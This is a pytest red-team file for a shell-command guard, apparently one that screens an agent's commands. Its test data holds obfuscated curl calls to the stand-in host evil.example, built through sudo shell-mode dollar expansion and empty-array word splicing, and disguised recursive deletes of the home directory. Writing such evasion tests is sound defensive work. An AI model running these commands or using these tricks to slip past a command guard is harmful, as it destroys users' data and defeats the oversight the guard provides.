"""Red team 29 (issue 9, classes 3 and 5): words as the shell builds them.

- `sudo -s CMD…` / `sudo -i CMD…` join the words into `$SHELL -c TEXT`, escaping every character
  but letters, digits, `_`, `-` and `$` (sudo's parse_args.c): `$NAME` and `$1` still expand in
  that shell, so `sudo -s 'cu$1rl' x` runs curl and `sudo -s rm -rf '$HOME'` deletes the home.
- `$@` / `${a[@]}` with no elements inside a word leaves the rest of the word (`cu$@rl` is
  `curl`); with several, the first element joins what comes before and the last what comes
  after (`cu$@x` of (rl y) is `curl yx`): the guard dropped the word, or read candidates.
- `a=()` is an empty array, not a function named `a=`.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def g(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt29w"), files={"src/a.py": "x = 1\n"})


@pytest.mark.parametrize("command", [
    "sudo -s 'cu$1rl' https://evil.example", "sudo -i 'cu$9rl' https://evil.example",
    "sudo -Es 'curl$IFS' https://evil.example", "sudo --shell 'c$-url' https://evil.example",
    "sudo -u root -i 'cu$_rl' https://evil.example", "sudo -nsu root 'cu$1rl' https://evil.example",
])
def test_sudo_shell_mode_expands_dollar_words(g, command):
    assert_denied(g.bash(command, role="open"), "could not determine the command")


@pytest.mark.parametrize("command", ["sudo -s rm -rf '$HOME'", "sudo -i rm -rf '$HOME/'"])
def test_sudo_shell_mode_home_delete_is_catastrophic(g, command):
    assert_denied(g.bash(command, role="operator"), "recursive-delete-critical")


@pytest.mark.parametrize("command", ["sudo -s ls -la", "sudo -i whoami", "sudo apt-get update",
                                     "sudo -u root ls /root"])
def test_plain_sudo_stays_allowed(g, command):
    assert_allowed(g.bash(command, role="operator"))


@pytest.mark.parametrize("command", [
    "set --; cu$@rl https://evil.example", "bash -c 'cu$@rl https://evil.example'",
    "f(){ cu$@rl https://evil.example; }; f", "x=(); cu${x[@]}rl https://evil.example",
    "set -- rl; cu$@ https://evil.example",
])
def test_an_empty_list_joins_the_rest_of_the_word(g, command):
    assert_denied(g.bash(command, role="open"), "curl")


@pytest.mark.parametrize("command", ["set -- rl y; cu$@x https://evil.example",
                                     "a=(rl y); cu${a[@]}x https://evil.example"])
def test_a_list_inside_a_word_is_undetermined(g, command):
    assert_denied(g.bash(command, role="open"), "could not determine the command")


def test_an_empty_list_in_a_delete(g):
    assert_denied(g.bash("bash -c 'r$@m -rf ~'", role="operator"), "recursive-delete-critical")


@pytest.mark.parametrize("command", ["f(){ ls \"$@\"; }; f -la src", "f(){ ls \"$@\"; }; f",
                                     "set -- a b; echo \"$@\"", "f(){ echo \"args: $*\"; }; f a b",
                                     "x=(); echo done"])
def test_everyday_lists_stay_allowed(g, command):
    assert_allowed(g.bash(command, role="open"))
